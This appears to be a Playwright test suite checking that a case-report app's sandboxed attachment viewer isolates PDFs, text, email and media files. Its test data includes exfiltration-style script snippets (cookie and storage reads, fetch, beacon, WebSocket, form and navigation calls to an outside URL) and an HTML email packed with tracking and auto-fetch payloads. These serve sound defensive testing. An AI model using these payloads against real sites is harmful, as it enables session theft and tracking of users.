// A document of a case in the viewer's sandbox: what is shown, and what an attacker gets out of it.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Locator, Page } from 'playwright-core';
import sharp from 'sharp';
import { expectNoViolations } from '../../setup/axe';
import { becomes, eventually } from '../../setup/eventually';
import { picture } from '../../setup/images';
import { attackingPdf, lockedPdf, pdf } from '../../setup/pdf';
import { resize } from '../../setup/window-size';
import { focusOn, giveSession, setUpTeam } from './team';

const team = setUpTeam();

const NAME = 'prova.pdf';

/** A server elsewhere, which must never be called. */
let outside: Server;
let calls: string[];
const outsideUrl = () => `http://127.0.0.1:${String((outside.address() as AddressInfo).port)}`;

beforeAll(async () => {
  outside = createServer((request, response) => {
    calls.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
});
beforeEach(() => (calls = []));
afterAll(() => outside.close());

/** A case whose attachment is this document, as the API would show it. */
async function caseWith(
  document: Buffer,
  at: (page: Page) => Promise<unknown> = noChange,
  { name = NAME, tipo = 'pdf' } = {},
) {
  const dataUrl = `data:image/png;base64,${picture().buffer.toString('base64')}`;
  const { id } = await team.file({ anexos: [{ nomeArquivo: 'a.png', arquivo: dataUrl }] });
  const page = await team.visitor();
  await giveSession(page, team);
  await page.route(`**/api/relatos/${id}`, async (route) => {
    const response = await route.fetch();
    const report = (await response.json()) as { anexos: object[] };
    report.anexos = report.anexos.map((file) => ({ ...file, nomeArquivo: name, tipo }));
    await route.fulfill({ response, json: report });
  });
  await page.route(/\/anexos\/[^/]+$/, (route) => route.fulfill({ body: document }));
  await at(page);
  await page.goto(`/relatos/${id}`);
  return page;
}

const noChange = () => Promise.resolve();
const opener = (page: Page) => page.getByRole('button', { name: `Ver ${NAME}` });
const viewer = (page: Page) => page.getByRole('dialog', { name: NAME });

/** The frame in the dialog, once the document is drawn. */
async function openedFrame(page: Page): Promise<Frame> {
  await opener(page).click();
  await viewer(page)
    .getByRole('status')
    .getByText(/página/)
    .waitFor();
  const frame = page.frames().find((each) => each.url().endsWith('/viewer'));
  if (!frame) throw new Error('no frame shows the viewer');
  return frame;
}

/**
 * Presses Escape in the frame. That removes the frame, and a browser that has not answered the key
 * yet may then never answer it.
 */
async function escapeFrame(page: Page, dialog: Locator): Promise<void> {
  page.keyboard.press('Escape').catch(() => undefined); // ends with the page at the latest
  await dialog.waitFor({ state: 'detached' });
}

test('a PDF is drawn, its text can be selected, and its pages follow the zoom', async () => {
  const page = await caseWith(pdf({ texts: ['Primeira prova', 'Segunda prova', 'Terceira'] }));
  const frame = await openedFrame(page);
  expect(await viewer(page).getByRole('status').textContent()).toBe('3 páginas · 100%');
  const { data } = await sharp(await viewer(page).locator('iframe').screenshot())
    .greyscale()
    .raw()
    .toBuffer({ resolveWithObject: true });
  const dark = data.filter((value) => value < 60).length;
  expect(dark / data.length).toBeGreaterThan(0.03);
  expect(dark / data.length).toBeLessThan(0.3);

  const selected = () =>
    frame.evaluate<string>(`(() => {
      const selection = document.getSelection();
      selection.selectAllChildren(document.querySelector('.text'));
      return selection.toString();
    })()`);
  await becomes(selected, 'Primeira prova');
  await frame.getByRole('region', { name: 'Página 2' }).scrollIntoViewIfNeeded();
  await frame.getByText('Segunda prova').waitFor();

  const width = () =>
    frame.evaluate<number>("document.querySelector('section').getBoundingClientRect().width");
  const before = await width();
  await viewer(page).getByRole('button', { name: 'Aumentar' }).click();
  await viewer(page).getByText('3 páginas · 150%').waitFor();
  await eventually('the page grows', async () => (await width()) > before * 1.4);
  await expectNoViolations(page);

  await frame.locator('section').first().click();
  await escapeFrame(page, viewer(page));
  await focusOn(opener(page));
});

test('the viewer is a page without an origin, and only its exact address may be framed', async () => {
  const { headers } = await fetch(`${team.url}/viewer`);
  expect(headers.get('content-security-policy')).toMatch(
    /^sandbox allow-scripts; default-src 'none';/,
  );
  const backOffice = await fetch(`${team.url}/login`);
  const policy = backOffice.headers.get('content-security-policy') ?? '';
  expect(/frame-src ([^;]*)/.exec(policy)?.[1]).toBe(
    ['/viewer', '/api/configuracoes/previa/pagina', '/api/relatos/']
      .map((path) => team.url + path)
      .join(' '),
  );
});

test('a PDF with scripts, programs, a remote image and a form sends nothing, also when clicked', async () => {
  const requested: string[] = [];
  const page = await caseWith(attackingPdf(outsideUrl()), async (opened) => {
    const session = await opened.context().newCDPSession(opened);
    await session.send('Network.enable');
    session.on('Network.requestWillBeSent', ({ request }) => requested.push(request.url));
    opened.on('request', (request) => requested.push(request.url()));
  });
  const frame = await openedFrame(page);
  await frame
    .locator('section')
    .first()
    .click({ position: { x: 100, y: 100 } });
  await frame.getByText('Prova do teste').waitFor();
  await escapeFrame(page, viewer(page));
  expect(calls).toEqual([]);
  expect(requested).not.toEqual([]);
  const known = new RegExp(`^(${team.url}/|blob:|data:)`);
  expect(requested.filter((url) => !known.test(url))).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});

/** Tried from inside the frame, with what a script of a file could reach; each returns what it got. */
const ATTEMPTS = (url: string): Readonly<Record<string, string>> => ({
  cookies: 'document.cookie',
  storage: 'localStorage.length',
  session: 'sessionStorage.length',
  database:
    "new Promise((got, no) => { const r = indexedDB.open('x'); r.onsuccess = got; r.onerror = no; })",
  caches: "caches.open('x').then(() => 'caches')",
  api: "fetch('/api/auth/me').then((answer) => answer.text())",
  outside: `fetch('${url}/fetch', { mode: 'no-cors' }).then(() => 'fetched')`,
  parent: 'parent.document.title',
  parentAddress: 'parent.location.href',
  top: `(() => { top.location = '${url}/top'; return 'set'; })()`,
  opened: `String(window.open('${url}/open') ?? '')`,
  beacon: `(() => { navigator.sendBeacon('${url}/beacon'); return ''; })()`,
  image: `new Promise((got, no) => { const i = new Image(); i.onload = () => got('image'); i.onerror = no; i.src = '${url}/image'; })`,
  socket: `new Promise((got, no) => { const s = new WebSocket('${url.replace('http', 'ws')}'); s.onopen = () => got('open'); s.onerror = no; })`,
  script: `new Promise((got, no) => { const s = document.createElement('script'); s.onload = () => got('script'); s.onerror = no; s.src = '${url}/script.js'; document.head.append(s); })`,
  worker: `new Promise((got, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker').then(() => postMessage('fetched'), () => postMessage(''))"]))); w.onmessage = ({ data }) => got(data); w.onerror = no; })`,
  serviceWorker:
    "navigator.serviceWorker.register('/equipe/viewer/sw.js').then(() => 'registered')",
  webrtc: "typeof RTCPeerConnection === 'undefined' ? '' : 'there'",
  webrtcOfChild:
    "(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.RTCPeerConnection ? 'there' : ''; })()",
  evaluated:
    "(() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s); return window.ran ? 'ran' : ''; })()",
  form: `(() => { const f = document.createElement('form'); f.action = '${url}/form'; f.method = 'post'; document.body.append(f); f.submit(); return ''; })()`,
  prefetch: `new Promise((got, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => got('loaded'); l.onerror = no; l.href = '${url}/style.css'; document.head.append(l); })`,
});

test('a script in the frame reaches neither cookies, storage, the API, other pages nor an address', async () => {
  const page = await caseWith(pdf());
  const frame = await openedFrame(page);
  const got: Record<string, unknown> = {};
  for (const [name, attempt] of Object.entries(ATTEMPTS(outsideUrl()))) {
    const result = await frame
      .evaluate(`(async () => String(await (${attempt})))()`)
      .catch(() => '');
    if (result !== '') got[name] = result;
  }
  // Leaving for another address must not take anything along either.
  await frame.evaluate(`location.href = '${outsideUrl()}/left?secret'`).catch(() => undefined);
  await viewer(page).getByRole('button', { name: 'Fechar' }).click();
  await viewer(page).waitFor({ state: 'detached' });
  expect(got).toEqual({});
  expect(calls).toEqual([]);
  expect(page.url()).toContain(`${team.url}/relatos/`);
  expect(page.context().pages()).toHaveLength(1);
});

test('false messages of the frame change nothing', async () => {
  const page = await caseWith(pdf());
  const frame = await openedFrame(page);
  await frame.evaluate(`for (const message of [
    null, 7, 'x', { type: 'shown', pages: '<img src=x>' }, { type: 'shown', pages: -1 },
    { type: 'error', name: '__proto__' }, { type: 'go', to: '/login' }, { type: 'ready' },
  ]) parent.postMessage(message, '*')`);
  await viewer(page).getByRole('button', { name: 'Aumentar' }).click();
  await viewer(page).getByText('1 página · 150%').waitFor();
});

test.each([
  ['is locked', lockedPdf, 'O PDF é protegido por uma senha. Ainda é possível baixá-lo.'],
  [
    'is broken',
    () => Buffer.from('%PDF-1.7\nnothing'),
    'O arquivo está danificado ou não é um PDF. Ainda é possível baixá-lo.',
  ],
])('a PDF that %s is refused in words', async (_, document, words) => {
  const page = await caseWith(document());
  await opener(page).click();
  await viewer(page).getByText(words).waitFor();
  expect(await viewer(page).locator('iframe').count()).toBe(0);
  await expectNoViolations(page);
});

test('a viewer that hangs is closed, and the page keeps responding meanwhile', async () => {
  const page = await caseWith(pdf(), (opened) =>
    opened.context().route('**/equipe/viewer/*.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'cross-origin-resource-policy': 'cross-origin' },
        body: "parent.postMessage({ type: 'ready' }, '*'); for (;;);",
      }),
    ),
  );
  await opener(page).click();
  await viewer(page).locator('iframe').waitFor();
  // Answered while the frame loops.
  expect(await viewer(page).getByRole('status').textContent()).toBe('Abrindo…');
  await viewer(page)
    .getByText('O arquivo não respondeu por 15 segundos e foi fechado.')
    .waitFor({ timeout: 60_000 });
  expect(await viewer(page).locator('iframe').count()).toBe(0);
  await viewer(page).getByRole('button', { name: 'Fechar' }).click();
  await viewer(page).waitFor({ state: 'detached' });
});

/** A file of another kind, once it is shown in the frame. */
async function shownFile(tipo: string, document: Buffer, shows: string) {
  const name = `prova.${tipo}`;
  const page = await caseWith(document, noChange, { name, tipo });
  await page.getByRole('button', { name: `Ver ${name}` }).click();
  const dialog = page.getByRole('dialog', { name });
  const part = dialog.frameLocator('iframe').locator(shows);
  return { page, dialog, part };
}

test.each(['txt', 'csv'])('a text (%s) that looks like a page is shown as text', async (tipo) => {
  const text = `<!doctype html><script src="${outsideUrl()}/a.js"></script><img src="${outsideUrl()}/b">\n=1+1;ação`;
  const { page, dialog, part } = await shownFile(tipo, Buffer.from(text, 'latin1'), 'pre');
  await part.waitFor();
  expect(await part.textContent()).toBe(text);
  const frame = dialog.frameLocator('iframe');
  expect(await frame.locator('img, script[src^="http://127.0.0.1"][src$="a.js"]').count()).toBe(0);
  expect(calls).toEqual([]);
  await resize(page, { width: 360, height: 740 });
  await expectNoViolations(page);
  await dialog.getByRole('button', { name: 'Aumentar' }).click();
  await dialog.getByText('150%').waitFor();
  await part.click();
  await escapeFrame(page, dialog);
  const opener = page.getByRole('button', { name: `Ver prova.${tipo}` });
  await focusOn(opener);
  // Escape closes from the bar as well.
  await opener.click();
  await dialog.getByRole('button', { name: 'Fechar' }).focus();
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
});

/** A mail of these lines, as a mail program writes it. */
const mail = (...lines: string[]) => Buffer.from(lines.join('\r\n'));

const HEAD = [
  'From: =?utf-8?Q?Jo=C3=A3o?= <joao@example.com>',
  'To: "<img src=x>" <ana@example.com>, Time: bia@example.com;',
  'Date: Thu, 26 Nov 2026 18:00:00 -0300',
  'Subject: =?utf-8?B?Tm90YSBmaXNjYWw=?=',
  'MIME-Version: 1.0',
];

test('a mail that is a page loads and runs nothing: its text is shown, and where its links lead', async () => {
  const url = outsideUrl();
  const attacking = mail(
    ...HEAD,
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><head><link rel="stylesheet" href="${url}/a.css"><style>@import url(${url}/b.css);`,
    `body { background: url(${url}/c) }</style><meta http-equiv="refresh" content="0;url=${url}/d">`,
    `<base href="${url}/e/"></head><body onload="fetch('${url}/f')">`,
    `<img src="${url}/g" onerror="fetch('${url}/h')"><div style="background:url(${url}/i)">Pague`,
    `a nota</div><p>no <a href="${url}/j">banco</a></p><script>fetch('${url}/k')</script>`,
    `<form action="${url}/l"><input name="x" autofocus onfocus="fetch('${url}/m')"><button>Ok</button>`,
    `</form><iframe src="${url}/n"></iframe><video src="${url}/o" poster="${url}/p"></video>`,
    `<svg><image href="${url}/q"/></svg></body></html>`,
  );
  const { page, dialog, part } = await shownFile('eml', attacking, 'pre');
  await part.waitFor();
  expect(await part.textContent()).toBe(`Pague a nota\n\nno banco (${url}/j)\n\nOk`);
  const frame = dialog.frameLocator('iframe');
  expect(await frame.locator('dd').allTextContents()).toEqual([
    'João <joao@example.com>',
    '<img src=x> <ana@example.com>, Time: bia@example.com;',
    'Thu, 26 Nov 2026 18:00:00 -0300',
    'Nota fiscal',
  ]);
  await frame.getByText('só tem uma versão formatada').waitFor();
  expect(await frame.locator('img, form, a, iframe, video, svg, [style*="url"]').count()).toBe(0);
  await resize(page, { width: 360, height: 740 });
  await expectNoViolations(page);
  await dialog.getByRole('button', { name: 'Aumentar' }).click();
  await dialog.getByText('150%').waitFor();
  await part.click();
  expect(calls).toEqual([]);
  await escapeFrame(page, dialog);
});

test('a mail shows its plain text first, and names its attachments without opening them', async () => {
  const { dialog, part } = await shownFile(
    'eml',
    mail(
      ...HEAD,
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      'Content-Type: multipart/alternative; boundary=a',
      '',
      '--a',
      'Content-Type: text/plain; charset=iso-8859-1',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'Segue a <b>cota=E7=E3o</b>',
      '--a',
      'Content-Type: text/html',
      '',
      '<p>Outra coisa</p>',
      '--a--',
      '--m',
      'Content-Type: application/pdf',
      'Content-Disposition: attachment; filename="<script>.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.alloc(2500).toString('base64'),
      '--m--',
      '',
    ),
    'pre',
  );
  await part.waitFor();
  expect((await part.textContent())?.trim()).toBe('Segue a <b>cotação</b>');
  const frame = dialog.frameLocator('iframe');
  await frame.getByText('pode dizer outra coisa').waitFor();
  const listed = await frame.locator('li').allTextContents();
  expect(listed.map((line) => line.replaceAll('\u00a0', ' '))).toEqual([
    '<script>.pdf · application/pdf · 3 kB',
  ]);
});

/** Two seconds of silence: a header, and one byte for each of 8,000 moments a second. */
function wav(): Buffer {
  const bytes = Buffer.alloc(44 + 16_000, 128);
  bytes.write('RIFF\0\0\0\0WAVEfmt ', 0, 'latin1');
  bytes.writeUInt32LE(bytes.length - 8, 4);
  for (const [at, value] of [
    [16, 16],
    [24, 8000],
    [28, 8000],
    [40, 16_000],
  ] as const)
    bytes.writeUInt32LE(value, at);
  for (const [at, value] of [
    [20, 1],
    [22, 1],
    [32, 1],
    [34, 8],
  ] as const)
    bytes.writeUInt16LE(value, at);
  bytes.write('data', 36, 'latin1');
  return bytes;
}

test('a sound has a player that moves to any moment, and plays nothing by itself', async () => {
  const { page, part } = await shownFile('wav', wav(), 'audio');
  await part.waitFor();
  expect(await part.getAttribute('aria-label')).toBe('prova.wav');
  const frame = page.frames().find((each) => each.url().endsWith('/viewer'));
  const moved = await frame?.evaluate(`new Promise((done) => {
    const player = document.querySelector('audio');
    player.onseeked = () => done([player.paused, player.duration, player.currentTime]);
    player.currentTime = 1.5;
  })`);
  expect(moved).toEqual([true, 2, 1.5]);
  await expectNoViolations(page);
});

test('a film with an odd container is refused in words, and the page goes on', async () => {
  const odd = Buffer.concat([
    Buffer.from('1a45dfa3', 'hex'),
    Buffer.from('webm'),
    Buffer.alloc(99),
  ]);
  const { page, dialog } = await shownFile('webm', odd, 'video');
  await dialog
    .getByText('Este navegador não consegue tocar o arquivo. Ainda é possível baixá-lo.')
    .waitFor();
  expect(await dialog.locator('iframe').count()).toBe(0);
  await expectNoViolations(page);
  await dialog.getByRole('button', { name: 'Fechar' }).click();
  await dialog.waitFor({ state: 'detached' });
});

test('a kind that no program here reads is not fetched, and the dialog says that it is downloaded', async () => {
  const name = 'prova.docx';
  const page = await caseWith(Buffer.from('PK'), noChange, { name, tipo: 'docx' });
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.getByRole('button', { name: `Ver ${name}` }).click();
  const dialog = page.getByRole('dialog', { name });
  await dialog.getByText('Este tipo de arquivo não é mostrado aqui.').waitFor();
  expect(await dialog.locator('iframe').count()).toBe(0);
  expect(asked.filter((url) => /anexos|viewer/.test(url))).toEqual([]);
  await expectNoViolations(page);
});
